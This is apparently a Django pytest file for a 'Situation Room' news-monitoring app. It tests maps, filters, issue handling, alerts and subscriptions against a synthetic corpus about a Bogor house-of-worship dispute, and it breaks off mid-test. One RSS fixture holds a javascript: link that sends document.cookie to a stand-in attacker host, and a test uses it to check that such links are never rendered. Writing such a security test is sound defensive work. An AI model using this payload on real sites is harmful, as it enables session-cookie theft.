"""The Situation Room's pages (issue #4), through the Django test client.

Items come in the way production brings them in (`store.save_raw_items`, the real analysis
pipeline and issue clustering); alerts are raised by the real detector and e-mails are read
from the outbox. The corpus: a planted spike (a rumah ibadah dispute in Kabupaten Bogor,
Jawa Barat, negative, in the last hours) over a few days of calm background news from other
provinces and topics.
"""

from __future__ import annotations

import html
import io
import json
import re
from datetime import timedelta
from itertools import combinations
from zoneinfo import ZoneInfo

import pytest
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone
from pypdf import PdfReader

from satupintu.notifications.models import OutboxMessage
from satupintu.organization import reference
from satupintu.organization.models import Office, Role, StaffRole
from satupintu.situation import briefs, maps, trends
from satupintu.situation.ingest.raw import RawItem
from satupintu.situation.models import (
    Alert,
    AlertEvent,
    AlertKind,
    AlertRule,
    AlertStatus,
    BriefSubscription,
    ImportJob,
    ImportStatus,
    Issue,
    IssueStatus,
    Item,
    Source,
    SourceKind,
    topics_mask,
)
from satupintu.situation.sources import MAX_UPLOAD
from satupintu.situation.store import save_raw_items

pytestmark = pytest.mark.django_db

# --- The corpus ------------------------------------------------------------------------------

BOGOR_KECAMATAN = ["Cibinong", "Citeureup", "Gunung Putri", "Cileungsi", "Parung", "Leuwiliang", "Ciawi",
                   "Cisarua", "Jonggol", "Dramaga", "Ciomas", "Tajurhalang"]
# Every spike report has the first two sentences and its own pair of the others, so the reports
# are one story (one issue) without being copies of each other (no duplicates).
SPIKE_CORE = [
    "Sekelompok warga di Kecamatan {kec}, Kabupaten Bogor, menolak pendirian rumah ibadah dan menggelar "
    "unjuk rasa di depan lokasi pembangunan.",
    "FKUB dan Kankemenag Kabupaten Bogor turun tangan untuk meredakan konflik dan menjaga kerukunan umat beragama.",
]
SPIKE_MORE = [
    "Penolakan rumah ibadah itu memicu ketegangan dan kericuhan kecil sehingga {n} orang dilaporkan terluka ringan.",
    "Tokoh lintas agama mengecam intoleransi dan meminta semua pihak menahan diri agar konflik tidak meluas.",
    "Kasus penolakan ini menjadi sorotan di media sosial dan memicu polemik yang berkepanjangan di tengah warga.",
    "Massa kembali berkumpul pada malam hari dan mengancam membubarkan ibadah jemaat yang sedang berlangsung.",
    "Jemaat mengaku ketakutan dan kecewa karena izin bangunan sudah diurus sejak tahun {y} namun terus dipersoalkan.",
    "Aparat keamanan menurunkan {m} personel untuk berjaga di sekitar lokasi sengketa rumah ibadah tersebut.",
    "Warga menuding panitia pembangunan tidak melibatkan lingkungan sekitar, sehingga suasana semakin panas.",
]
SPIKE_PAIRS = list(combinations(range(len(SPIKE_MORE)), 2))

# (title, text, the places the text names): calm news, two reports each, two to six days old.
BACKGROUND = [
    ("FKUB Kota Makassar gelar dialog lintas agama di {kec}",
     "Forum Kerukunan Umat Beragama Kota Makassar menggelar dialog lintas agama bersama tokoh masyarakat di "
     "Kecamatan {kec}. Kepala Kankemenag Kota Makassar menekankan pentingnya moderasi beragama dan toleransi "
     "antarumat. Kegiatan berjalan harmonis dan dihadiri {n} peserta dari unsur penyuluh, pemuda, dan tokoh agama.",
     ["Tamalate", "Panakkukang", "Biringkanaya"]),
    ("Madrasah di Kota Bandung raih juara lomba sains di {kec}",
     "Siswa madrasah dari Kota Bandung meraih juara pada kompetisi sains madrasah tingkat provinsi yang digelar di "
     "Kecamatan {kec}. Kanwil Kemenag Jawa Barat mengapresiasi guru dan siswa atas prestasi tersebut. Sebanyak {n} "
     "siswa madrasah ikut serta dan prestasi ini diharapkan memotivasi madrasah lain meningkatkan mutu pendidikan.",
     ["Coblong", "Sukajadi", "Antapani"]),
    ("Manasik haji di Kabupaten Luwu Utara diikuti calon jemaah {kec}",
     "Kankemenag Kabupaten Luwu Utara menggelar manasik haji bagi {n} calon jemaah haji asal Kecamatan {kec}. "
     "Calon jemaah haji mendapat bimbingan ibadah haji, informasi pelunasan biaya, dan pemeriksaan kesehatan. "
     "Kepala kantor berharap jemaah menjaga kesehatan dan semangat hingga jadwal keberangkatan kloter tiba.",
     ["Masamba", "Sabbang", "Baebunta"]),
    ("KUA {kec} di Kota Semarang gelar bimbingan perkawinan",
     "KUA Kecamatan {kec} di Kota Semarang menggelar bimbingan perkawinan bagi {n} pasang calon pengantin. "
     "Bimbingan perkawinan membekali calon pengantin tentang keluarga sakinah, pengelolaan keuangan, dan kesehatan "
     "reproduksi. Kankemenag Kota Semarang menyebut layanan nikah di KUA gratis bila dilaksanakan pada jam kerja.",
     ["Tembalang", "Banyumanik", "Gajahmungkur"]),
    ("Penyaluran zakat di Kota Surabaya capai target di {kec}",
     "Baznas bersama Kankemenag Kota Surabaya menyalurkan zakat kepada {n} mustahik di Kecamatan {kec}. "
     "Penyaluran zakat tahun ini mencapai target dan berjalan lancar tanpa kendala berarti. Sertifikasi tanah "
     "wakaf juga dipercepat bersama para nadzir agar aset wakaf terlindungi secara hukum dan dapat dimanfaatkan.",
     ["Gubeng", "Wonokromo", "Rungkut"]),
]
# One of these per background report, so that two reports of a story are not copies.
DETAILS = [
    "Acara dibuka dengan pembacaan ayat suci Al-Qur'an oleh siswa madrasah setempat pada pagi hari.",
    "Camat dan perwakilan pemerintah daerah turut hadir memberikan sambutan singkat kepada seluruh peserta.",
    "Panitia menyiapkan paket bahan bacaan untuk dibagikan kepada peserta setelah kegiatan selesai.",
    "Penyuluh agama dari beberapa KUA ikut mendampingi jalannya kegiatan sejak awal hingga akhir.",
    "Dokumentasi kegiatan dibagikan melalui kanal resmi kantor agar dapat diikuti masyarakat luas.",
    "Anggaran kegiatan bersumber dari DIPA tahun berjalan dan dipertanggungjawabkan secara terbuka.",
]


def spike_raws(now, count: int = 8) -> list[RawItem]:  # type: ignore[no-untyped-def]
    """Negative reports of a rumah ibadah dispute in Kabupaten Bogor, all within the last 12 hours."""
    raws = []
    for k in range(count):
        kec = BOGOR_KECAMATAN[k % len(BOGOR_KECAMATAN)]
        first, second = SPIKE_PAIRS[k % len(SPIKE_PAIRS)]
        lines = [*SPIKE_CORE, SPIKE_MORE[first], SPIKE_MORE[second]]
        text = " ".join(line.format(kec=kec, n=3 + k, y=2015 + k % 8, m=40 + 5 * k) for line in lines)
        text += f" Laporan ini dihimpun dari warga Kecamatan {kec} pada pekan ini sebagai kejadian ke-{k + 1}."
        raws.append(RawItem(external_id=f"spike-{k}", title=f"Penolakan rumah ibadah di {kec}, Kabupaten Bogor",
                            text=text, published_at=now - timedelta(hours=1 + k % 12, minutes=7 * k)))
    return raws


def background_raws(now, per_story: int = 2) -> list[RawItem]:  # type: ignore[no-untyped-def]
    raws = []
    n = 0
    for s, (title, text, kecamatan) in enumerate(BACKGROUND):
        for j in range(per_story):
            kec = kecamatan[j % len(kecamatan)]
            body = text.format(kec=kec, n=20 + 7 * n) + " " + DETAILS[n % len(DETAILS)]
            raws.append(RawItem(external_id=f"latar-{s}-{j}", title=title.format(kec=kec), text=body,
                                published_at=now - timedelta(days=2 + n % 5, hours=n)))
            n += 1
    return raws


def plant(source: Source, now=None) -> Issue:  # type: ignore[no-untyped-def]
    """Store the background and the spike; return the spike's issue."""
    now = now or timezone.now()
    save_raw_items(source, background_raws(now))
    save_raw_items(source, spike_raws(now))
    issue = Item.objects.get(source=source, external_id="spike-0").issue
    assert issue is not None and issue.item_count >= 5, "the spike should be one issue"
    return issue




@pytest.fixture
def source(db) -> Source:  # type: ignore[no-untyped-def]
    return Source.objects.create(name="Pantauan media uji", kind=SourceKind.SOCIAL)


# --- Reading pages ---------------------------------------------------------------------------


def flashes(response) -> list[str]:  # type: ignore[no-untyped-def]
    block = re.search(r'<ul class="messages"[^>]*>(.*?)</ul>', response.content.decode(), re.S)
    return [html.unescape(m) for m in re.findall(r"<li[^>]*>(.*?)</li>", block.group(1), re.S)] if block else []


def summary(response) -> list[tuple[str, str]]:  # type: ignore[no-untyped-def]
    """The error summary of a form sent back: (the element id it links to, or "" when the
    message stands alone; the message)."""
    block = re.search(r'<div class="error-summary card" id="error-summary" role="alert".*?</ul>',
                      response.content.decode(), re.S)
    found = []
    for item in re.findall(r"<li>(.*?)</li>", block.group(0), re.S) if block else []:
        link = re.fullmatch(r'<a href="#([^"]+)">(.*)</a>', item, re.S)
        found.append((link.group(1), html.unescape(link.group(2))) if link else ("", html.unescape(item)))
    return found


def problems(response) -> list[str]:  # type: ignore[no-untyped-def]
    return [html.unescape(p) for p in re.findall(r'<p class="error" role="alert">(.*?)</p>', response.content.decode())]


def section(response, heading_id: str) -> str:  # type: ignore[no-untyped-def]
    page = response.content.decode()
    start = page.index(f'aria-labelledby="{heading_id}"')
    return page[start:page.index("</section>", start)]


def map_paths(response) -> dict[str, str]:  # type: ignore[no-untyped-def]
    """data-code -> fill of every region drawn on the room's map."""
    svg = re.search(r'<svg class="map".*?</svg>', response.content.decode(), re.S).group(0)
    return dict((code, fill) for fill, code in re.findall(r'<path d="[^"]*" fill="([^"]+)" data-code="([^"]+)"', svg))


def legend_labels(response) -> list[str]:  # type: ignore[no-untyped-def]
    block = re.search(r'<ul class="legend" aria-label="Keterangan warna">(.*?)</ul>', response.content.decode(), re.S)
    return [html.unescape(x) for x in re.findall(r"</span>(.*?)</li>", block.group(1))]


def latest_titles(response) -> list[str]:  # type: ignore[no-untyped-def]
    return [html.unescape(t) for t in re.findall(r"<li><strong>(.*?)</strong>", section(response, "latest-title"))]


def pdf_text(data: bytes) -> str:
    text = " ".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)
    return re.sub(r"\s+", " ", text)


# --- Who may enter ---------------------------------------------------------------------------

ROOM_PAGES = ["/situasi/", "/situasi/peringatan/", "/situasi/langganan/", "/situasi/sumber/",
              "/situasi/ringkasan.pdf"]


@pytest.mark.parametrize("url", ROOM_PAGES)
def test_anonymous_visitor_is_sent_to_the_login_page(client, url):  # type: ignore[no-untyped-def]
    response = client.get(url)
    assert response.status_code == 302
    assert response["Location"] == f"/masuk/?next={url}"


@pytest.mark.parametrize("url", ROOM_PAGES)
def test_signed_in_citizen_who_is_not_staff_is_forbidden(client, people, url):  # type: ignore[no-untyped-def]
    client.force_login(people.outsider)
    assert client.get(url).status_code == 403


def test_pusat_officer_opens_the_national_room_without_a_redirect(client, db):  # type: ignore[no-untyped-def]
    officer = get_user_model().objects.create_user("pusat.humas", "pusat.humas@test.local", "sandi-uji-123")
    StaffRole.objects.create(user=officer, office=Office.objects.get(code="pusat"), role=Role.HEAD_OF_OFFICE)
    client.force_login(officer)
    response = client.get("/situasi/")
    assert response.status_code == 200
    assert "Peta provinsi" in response.content.decode()
    assert len(map_paths(response)) == 38


# --- The room: map, filters, problems --------------------------------------------------------


def test_kanwil_head_lands_on_own_province_with_its_regency_map(client, people, source):  # type: ignore[no-untyped-def]
    plant(source)
    client.force_login(people.kakanwil_sulsel)
    response = client.get("/situasi/")
    assert response.status_code == 302 and response["Location"] == "/situasi/?provinsi=73"

    response = client.get(response["Location"])
    assert response.status_code == 200
    page = response.content.decode()
    assert "Peta kabupaten/kota" in page and "Sulawesi Selatan" in page
    paths = map_paths(response)
    sulsel = {r["code"] for r in reference.regencies() if r["province_code"] == "73"}
    assert set(paths) == sulsel  # every regency of Sulawesi Selatan, and nothing else
    # Kota Makassar and Kabupaten Luwu Utara have background news, so they are coloured; a quiet
    # regency stays grey.
    assert paths["73.71"] in maps.palette("volume") and paths["73.22"] in maps.palette("volume")
    assert paths["73.01"] == maps.NEUTRAL


def test_national_map_draws_38_provinces_coloured_by_item_count(client, people, source):  # type: ignore[no-untyped-def]
    plant(source)
    client.force_login(people.kakanwil_sulsel)
    response = client.get("/situasi/?provinsi=")  # "Seluruh Indonesia" in the filter form
    assert response.status_code == 200
    paths = map_paths(response)
    assert len(paths) == 38 and all(re.fullmatch(r"\d{2}", code) for code in paths)
    assert set(paths) == {p["code"] for p in reference.provinces()}
    assert paths["32"] in maps.palette("volume")  # Jawa Barat has the spike
    assert paths["61"] == maps.NEUTRAL  # Kalimantan Barat: nothing reported
    assert paths["32"] == maps.palette("volume")[-1]  # the busiest province gets the darkest class
    labels = legend_labels(response)
    assert labels[0] == "0" and len(labels) > 1 and not any(label.endswith("%") for label in labels)


def test_negative_measure_switches_the_map_legend_to_percentages(client, people, source):  # type: ignore[no-untyped-def]
    plant(source)
    client.force_login(people.kakanwil_sulsel)
    response = client.get("/situasi/?provinsi=&ukuran=negatif")
    assert response.status_code == 200
    labels = legend_labels(response)
    assert labels[0] == "0%" and len(labels) > 1 and all(label.endswith("%") for label in labels)
    paths = map_paths(response)
    assert paths["32"] == maps.palette("negative")[-1]  # the spike is all negative: the darkest red
    assert paths["73"] == maps.NEUTRAL  # calm news in Sulawesi Selatan: no negative share
    page = response.content.decode()
    assert "<strong>porsi negatif</strong>" in page
    assert '<input type="hidden" name="ukuran" value="negatif">' in page  # the filter form keeps the measure


def test_province_and_topic_filters_limit_the_latest_items(client, people, source):  # type: ignore[no-untyped-def]
    plant(source)
    client.force_login(people.kakanwil_sulsel)
    response = client.get("/situasi/?provinsi=32&topik=kerukunan")
    assert response.status_code == 200 and problems(response) == []
    shown = latest_titles(response)

    week_ago = timezone.now() - timedelta(days=7)
    recent = Item.objects.filter(published_at__gt=week_ago, duplicate_of__isnull=True)
    expected = {i.title for i in recent if i.province_code == "32" and "kerukunan" in i.topics}
    jabar_other = {i.title for i in recent if i.province_code == "32" and "kerukunan" not in i.topics}
    kerukunan_elsewhere = {i.title for i in recent if i.province_code != "32" and "kerukunan" in i.topics}
    assert expected and jabar_other and kerukunan_elsewhere  # the corpus can tell the filters apart
    assert set(shown) == expected
    assert len(shown) == len(expected)

    # The regency map of Jawa Barat, with only Kabupaten Bogor coloured for kerukunan.
    paths = map_paths(response)
    assert len(paths) == len([r for r in reference.regencies() if r["province_code"] == "32"])
    assert [code for code, fill in paths.items() if fill != maps.NEUTRAL] == ["32.01"]


def test_regency_filter_marks_the_regency_on_its_province_map(client, people, source):  # type: ignore[no-untyped-def]
    plant(source)
    client.force_login(people.kakanwil_sulsel)
    response = client.get("/situasi/?kabkota=32.01")
    assert response.status_code == 200
    page = response.content.decode()
    assert re.search(r'data-code="32\.01" class="selected"', page)
    assert len(re.findall(r'class="selected"', page)) == 1
    titles = latest_titles(response)
    assert titles and all(t.endswith("Kabupaten Bogor") for t in titles)


def test_bad_filter_values_give_indonesian_messages_not_an_error(client, people, source):  # type: ignore[no-untyped-def]
    client.force_login(people.kakanwil_sulsel)
    response = client.get("/situasi/?hari=abc&provinsi=99&topik=xyz&sumber=zzz&kabkota=99.99")
    assert response.status_code == 200
    assert problems(response) == ["Periode tidak dikenal; memakai 7 hari.", "Kabupaten/kota tidak dikenal.",
                                  "Provinsi tidak dikenal.", "Topik tidak dikenal.", "Sumber tidak dikenal."]
    assert len(map_paths(response)) == 38  # fell back to the whole country
    # A source id that does not exist is as unknown as one that is not a number.
    response = client.get(f"/situasi/?sumber={source.pk + 1000}")
    assert problems(response) == ["Sumber tidak dikenal."]
    for odd in ("²", "１"):  # digits to str.isdigit(); int() refuses the first, reads the second
        assert problems(client.get("/situasi/", {"sumber": odd})) == ["Sumber tidak dikenal."]
    # Thousands of digits: past what int() converts (4300), once a 500.
    assert problems(client.get("/situasi/", {"sumber": "1" * 5000})) == ["Sumber tidak dikenal."]


def test_partial_returns_only_the_room_body(client, people, source):  # type: ignore[no-untyped-def]
    plant(source)
    client.force_login(people.kakanwil_sulsel)
    response = client.get("/situasi/?provinsi=32&partial=1")
    assert response.status_code == 200
    fragment = response.content.decode()
    assert "<html" not in fragment and "<body" not in fragment
    assert 'id="room-filters"' not in fragment  # the filter form stays on the page
    assert 'data-testid="map"' in fragment and "Butir terbaru" in fragment
    assert "Penolakan rumah ibadah" in fragment


def test_item_tone_is_shown_in_indonesian(client, people, source):  # type: ignore[no-untyped-def]
    issue = plant(source)
    client.force_login(people.kakanwil_sulsel)
    for url in ("/situasi/?provinsi=32", f"/situasi/isu/{issue.pk}/"):
        tones = re.findall(r'<span class="tone negative">(.*?)</span>', client.get(url).content.decode())
        assert tones, url  # the spike's items are listed with their tone
        assert set(tones) == {"negatif"}, url


# --- One issue -------------------------------------------------------------------------------


def _act(client, issue: Issue, **data):  # type: ignore[no-untyped-def]
    return client.post(f"/situasi/isu/{issue.pk}/aksi/", data, follow=True)


def test_issue_page_shows_its_items_and_regions(client, people, source):  # type: ignore[no-untyped-def]
    issue = plant(source)
    client.force_login(people.kakanwil_sulsel)
    response = client.get(f"/situasi/isu/{issue.pk}/")
    assert response.status_code == 200
    page = html.unescape(response.content.decode())
    for item in issue.items.all():
        assert item.title in page
    assert '<a href="/situasi/?kabkota=32.01">Kabupaten Bogor</a>' in page
    assert client.get("/situasi/isu/999999/").status_code == 404


def test_rename_issue_sets_and_locks_the_title(client, people, room_people, source):  # type: ignore[no-untyped-def]
    issue = plant(source)
    client.force_login(room_people.kakanwil_jabar)
    response = _act(client, issue, action="rename", title="  Sengketa rumah ibadah Bogor  ")
    assert flashes(response) == ["Judul isu diubah."]
    issue.refresh_from_db()
    assert (issue.title, issue.title_locked) == ("Sengketa rumah ibadah Bogor", True)

    response = _act(client, issue, action="rename", title="   ")
    assert response.status_code == 400 and flashes(response) == []
    assert summary(response) == [("title", "Judul isu tidak boleh kosong.")]
    issue.refresh_from_db()
    assert issue.title == "Sengketa rumah ibadah Bogor"


def test_closed_issue_leaves_top_issues_and_can_be_reopened(client, people, room_people, source):  # type: ignore[no-untyped-def]
    issue = plant(source)
    client.force_login(room_people.kakanwil_jabar)
    top = f'href="/situasi/isu/{issue.pk}/"'
    assert top in section(client.get("/situasi/?provinsi=32"), "issues-title")

    response = _act(client, issue, action="close")
    assert flashes(response) == ["Isu ditutup."]
    issue.refresh_from_db()
    assert issue.status == IssueStatus.CLOSED
    assert top not in section(client.get("/situasi/?provinsi=32"), "issues-title")

    response = _act(client, issue, action="reopen")
    assert flashes(response) == ["Isu dibuka kembali."]
    issue.refresh_from_db()
    assert issue.status == IssueStatus.OPEN
    assert top in section(client.get("/situasi/?provinsi=32"), "issues-title")

    response = _act(client, issue, action="reopen")  # it is open already: a conflict, said at the top
    assert response.status_code == 409
    assert summary(response) == [("", "Hanya isu yang ditutup yang dapat dibuka kembali.")]


def test_merge_moves_items_and_sends_the_merged_issue_to_its_target(client, people, room_people, source):  # type: ignore[no-untyped-def]
    target = plant(source)
    merged = Item.objects.get(external_id="latar-1-0").issue  # the Bandung madrasah report
    assert merged != target
    moving = set(merged.items.values_list("pk", flat=True))
    before = target.item_count
    client.force_login(room_people.kakanwil_jabar)

    response = client.post(f"/situasi/isu/{merged.pk}/aksi/", {"action": "merge", "into": str(target.pk)})
    assert response.status_code == 302 and response["Location"] == f"/situasi/isu/{target.pk}/"
    assert flashes(client.get(response["Location"])) == [f"Isu digabung ke \u201c{target.title}\u201d."]
    merged.refresh_from_db()
    target.refresh_from_db()
    assert (merged.status, merged.merged_into_id, merged.item_count) == (IssueStatus.MERGED, target.pk, 0)
    assert moving <= set(target.items.values_list("pk", flat=True))
    assert target.item_count == before + len(moving)

    response = client.get(f"/situasi/isu/{merged.pk}/", follow=True)
    assert response.redirect_chain == [(f"/situasi/isu/{target.pk}/", 302)]
    assert flashes(response) == ["Isu ini sudah digabung; Anda dibawa ke isu gabungannya."]


def test_merge_without_a_valid_target_is_refused_with_a_message(client, people, room_people, source):  # type: ignore[no-untyped-def]
    issue = plant(source)
    client.force_login(room_people.pusat_head)  # merges across provinces below
    for into in ("", "abc", "999999", "9" * 40):
        response = _act(client, issue, action="merge", into=into)
        assert response.status_code == 400
        assert summary(response) == [("into", "Pilih isu tujuan penggabungan.")]
    response = _act(client, issue, action="merge", into=str(issue.pk))
    assert summary(response) == [("into", "Isu tidak dapat digabung dengan dirinya sendiri.")]
    # An issue that was merged away is no target: its own target is.
    madrasah = Item.objects.get(external_id="latar-1-0").issue
    fkub = Item.objects.get(external_id="latar-0-0").issue
    _act(client, madrasah, action="merge", into=str(fkub.pk))
    response = _act(client, issue, action="merge", into=str(madrasah.pk))
    assert response.status_code == 409
    assert summary(response) == [("into", "Isu tujuan sudah digabung ke isu lain; pilih isu tujuannya.")]
    issue.refresh_from_db()
    assert issue.status == IssueStatus.OPEN and issue.items.count() == issue.item_count > 0


def test_split_moves_the_chosen_items_to_a_new_issue(client, people, room_people, source):  # type: ignore[no-untyped-def]
    issue = plant(source)
    total = issue.item_count
    chosen = list(issue.items.order_by("pk").values_list("pk", flat=True)[:2])
    client.force_login(room_people.kakanwil_jabar)

    response = client.post(f"/situasi/isu/{issue.pk}/aksi/",
                           {"action": "split", "items": [str(pk) for pk in chosen], "title": "Unjuk rasa Cibinong"})
    new = Issue.objects.exclude(pk=issue.pk).get(title="Unjuk rasa Cibinong")
    assert response.status_code == 302 and response["Location"] == f"/situasi/isu/{new.pk}/"
    assert set(new.items.values_list("pk", flat=True)) == set(chosen)
    issue.refresh_from_db()
    assert (issue.item_count, new.item_count) == (total - 2, 2)
    assert new.title_locked and new.province_code == "32" and "32.01" in new.regencies
    assert flashes(client.get(response["Location"])) == ["2 butir dipisahkan menjadi isu baru."]


def test_split_must_leave_an_item_and_choose_one(client, people, room_people, source):  # type: ignore[no-untyped-def]
    issue = plant(source)
    everything = [str(pk) for pk in issue.items.values_list("pk", flat=True)]
    client.force_login(room_people.kakanwil_jabar)
    response = _act(client, issue, action="split", items=everything)
    assert response.status_code == 400
    assert summary(response) == [("split-items_0", "Sisakan paling sedikit satu butir di isu asal.")]
    response = _act(client, issue, action="split", items=[])
    assert summary(response) == [("split-items_0", "Pilih butir yang akan dipisahkan.")]
    assert Issue.objects.count() == len({i.issue_id for i in Item.objects.all()})  # no new, empty issue
    issue.refresh_from_db()
    assert issue.item_count == len(everything)


def test_unknown_issue_action_gives_a_message_and_get_is_not_allowed(client, people, room_people, source):  # type: ignore[no-untyped-def]
    issue = plant(source)
    client.force_login(room_people.kakanwil_jabar)
    response = _act(client, issue, action="hapus")
    assert response.status_code == 400 and summary(response) == [("", "Tindakan tidak dikenal.")]
    assert client.get(f"/situasi/isu/{issue.pk}/aksi/").status_code == 405


RSS_WITH_SCRIPT_LINK = """<?xml version="1.0" encoding="utf-8"?>
<rss version="2.0"><channel><title>Portal Berita Contoh</title><link>https://berita.contoh.id/</link>
<item><title>Madrasah di Kabupaten Bogor buka kelas digital</title>
<link>javascript:fetch('https://jahat.contoh/?c='+document.cookie)</link><guid isPermaLink="false">berita-77</guid>
<description>Sebuah madrasah aliyah di Kecamatan Cibinong, Kabupaten Bogor, membuka kelas digital bagi siswa yang
tinggal jauh dari sekolah. Guru madrasah menyiapkan materi pelajaran daring dan pendampingan belajar setiap sore.
Kepala madrasah berharap kelas digital ini memperluas akses pendidikan dan meningkatkan mutu pembelajaran
bagi seluruh siswa di wilayah tersebut.</description></item></channel></rss>"""


def test_room_never_links_a_feed_item_to_a_javascript_url(client, people):  # type: ignore[no-untyped-def]
    from satupintu.situation.ingest.feeds import parse_feed

    feed = Source.objects.create(name="Portal Berita Contoh", kind=SourceKind.FEED, url="https://berita.contoh.id/feed")
    (item,) = save_raw_items(feed, parse_feed(RSS_WITH_SCRIPT_LINK.encode(), feed.url, "application/rss+xml"))
    client.force_login(people.kakanwil_sulsel)
    room = client.get("/situasi/?provinsi=32").content.decode()
    assert item.title in room  # the item is listed
    issue_page = client.get(f"/situasi/isu/{item.issue_id}/").content.decode()
    assert item.title in issue_page
    for page in (room, issue_page):
        assert not re.search(r'href="\s*javascript:', page, re.I)


# --- Alerts ----------------------------------------------------------------------------------


def test_spike_raises_alerts_and_emails_matching_subscribers_once(people, source):  # type: ignore[no-untyped-def]
    spike = plant(source)
    jabar = AlertRule.objects.create(user=people.kakanwil_jateng, province_code="32", name="Jawa Barat")
    AlertRule.objects.create(user=people.kakanwil_sulsel, province_code="73", name="Sulawesi Selatan")

    raised = trends.detect()

    assert raised and all(a.province_code == "32" for a in raised)
    issue_alert = Alert.objects.get(kind=AlertKind.ISSUE)
    assert issue_alert.issue_id == spike.pk and issue_alert.count == spike.item_count
    assert Alert.objects.filter(kind=AlertKind.NEGATIVE, province_code="32", topic="kerukunan").exists()
    mails = list(OutboxMessage.objects.filter(recipient=people.kakanwil_jateng.email))
    assert len(mails) == len(raised)
    for alert in raised:
        (mail,) = [m for m in mails if m.dedupe_key == f"alert:{alert.pk}:rule:{jabar.pk}"]
        assert f"/situasi/peringatan/{alert.pk}/" in mail.body
        assert mail.subject == f"[Situation Room] {alert.summary}"
    assert not OutboxMessage.objects.filter(recipient=people.kakanwil_sulsel.email).exists()

    queued = OutboxMessage.objects.count()
    assert trends.detect() == []  # the same rise later the same day is not a new alert
    assert OutboxMessage.objects.count() == queued
    assert Alert.objects.count() == len(raised)


def test_alert_follow_up_acknowledge_assign_and_resolve(client, people, room_people, source):  # type: ignore[no-untyped-def]
    plant(source)
    trends.detect()
    alert = Alert.objects.get(kind=AlertKind.ISSUE)
    url = f"/situasi/peringatan/{alert.pk}/"
    client.force_login(room_people.kakan_bogor)  # the spike is in Kabupaten Bogor
    page = client.get(url).content.decode()
    assert 'data-testid="alert-status">Baru<' in page and "Terima peringatan" in page

    response = client.post(url, {"action": "acknowledge"}, follow=True)
    assert flashes(response) == ["Peringatan diterima."]
    alert.refresh_from_db()
    assert (alert.status, alert.acknowledged_by) == (AlertStatus.ACKNOWLEDGED, room_people.kakan_bogor)
    assert alert.acknowledged_at is not None
    assert list(AlertEvent.objects.filter(alert=alert).values_list("action", "actor")) == [
        ("acknowledged", room_people.kakan_bogor.pk)]
    assert 'data-testid="alert-status">Diterima<' in response.content.decode()

    response = client.post(url, {"action": "acknowledge"})
    assert response.status_code == 409 and summary(response) == [("", "Peringatan ini sudah diterima.")]
    assert alert.events.count() == 1

    # Only colleagues of one's own office who may act on the alert can be given it.
    response = client.post(url, {"action": "assign", "assignee": str(people.kakanwil_jateng.pk)})
    assert response.status_code == 400
    assert summary(response) == [("assign-assignee", "Pilih petugas yang dapat menindaklanjuti peringatan ini.")]
    response = client.post(url, {"action": "assign", "assignee": str(room_people.pendma_bogor.pk),
                                 "note": "Mohon koordinasi dengan FKUB setempat."}, follow=True)
    assert flashes(response) == ["Peringatan ditugaskan ke pendma.bogor."]
    alert.refresh_from_db()
    assert (alert.status, alert.assigned_to) == (AlertStatus.ASSIGNED, room_people.pendma_bogor)
    mail = OutboxMessage.objects.get(recipient=room_people.pendma_bogor.email)
    assert mail.subject == f"[Situation Room] Ditugaskan: {alert.summary}"
    assert "Mohon koordinasi dengan FKUB setempat." in mail.body and url in mail.body

    response = client.post(url, {"action": "resolve", "note": "  "})
    assert response.status_code == 400
    assert summary(response) == [("note", "Tuliskan tindak lanjut yang dilakukan sebelum menyelesaikan peringatan.")]
    alert.refresh_from_db()
    assert alert.status == AlertStatus.ASSIGNED

    note = "Mediasi bersama FKUB dan tokoh warga disepakati; situasi kondusif."
    response = client.post(url, {"action": "resolve", "note": note}, follow=True)
    assert flashes(response) == ["Peringatan selesai ditindaklanjuti."]
    alert.refresh_from_db()
    assert alert.status == AlertStatus.RESOLVED and alert.resolved_at is not None
    assert alert.events.last().action == "resolved" and alert.events.last().note == note
    page = response.content.decode()
    assert "Tindak lanjut</h2>" not in page  # nothing more to do on a resolved alert
    response = client.post(url, {"action": "resolve", "note": note})
    assert response.status_code == 409 and summary(response) == [("", "Peringatan ini sudah selesai.")]
    response = client.post(url, {"action": "assign", "assignee": str(room_people.kakan_bogor.pk)})
    assert summary(response) == [("", "Peringatan yang sudah selesai tidak dapat ditugaskan.")]
    alert.refresh_from_db()
    assert alert.assigned_to == room_people.pendma_bogor and alert.events.count() == 3

    assert f'href="{url}"' not in client.get("/situasi/peringatan/").content.decode()
    assert f'href="{url}"' in client.get("/situasi/peringatan/?status=resolved").content.decode()


def test_unknown_alert_action_gives_a_message(client, people, room_people, source):  # type: ignore[no-untyped-def]
    plant(source)
    trends.detect()
    alert = Alert.objects.get(kind=AlertKind.ISSUE)
    client.force_login(room_people.kakan_bogor)
    response = client.post(f"/situasi/peringatan/{alert.pk}/", {"action": "hapus"})
    assert response.status_code == 400 and summary(response) == [("", "Tindakan tidak dikenal.")]
    response = client.post(f"/situasi/peringatan/{alert.pk}/", {"action": "note", "note": ""})
    assert response.status_code == 400 and summary(response) == [("note", "Catatan tindak lanjut tidak boleh kosong.")]
    alert.refresh_from_db()
    assert alert.status == AlertStatus.NEW and alert.events.count() == 0


# --- Subscriptions ---------------------------------------------------------------------------


def test_alert_subscription_is_created_listed_and_deleted(client, people):  # type: ignore[no-untyped-def]
    client.force_login(people.kakanwil_sulsel)
    response = client.post("/situasi/langganan/", {"province": "32", "topic": "kerukunan", "kind": ""}, follow=True)
    assert flashes(response) == ["Langganan peringatan tersimpan."]
    rule = AlertRule.objects.get(user=people.kakanwil_sulsel)
    assert (rule.province_code, rule.topic, rule.kind) == ("32", "kerukunan", "")
    assert rule.name == "kerukunan · Jawa Barat · semua lonjakan"
    assert rule.name in html.unescape(response.content.decode())

    # Someone else's rule is not theirs to delete.
    other = AlertRule.objects.create(user=people.kakanwil_jateng, province_code="33")
    client.post("/situasi/langganan/", {"delete": str(other.pk)}, follow=True)
    assert AlertRule.objects.filter(pk=other.pk).exists()

    response = client.post("/situasi/langganan/", {"delete": str(rule.pk)}, follow=True)
    assert flashes(response) == ["Langganan dihapus."]
    assert not AlertRule.objects.filter(user=people.kakanwil_sulsel).exists()


def test_alert_subscription_refuses_unknown_province_topic_or_kind(client, people):  # type: ignore[no-untyped-def]
    client.force_login(people.kakanwil_sulsel)
    response = client.post("/situasi/langganan/", {"province": "99", "topic": "xyz", "kind": "besar"})
    assert response.status_code == 400
    assert summary(response) == [("r-topic", "Topik tidak dikenal."), ("r-province", "Provinsi tidak dikenal."),
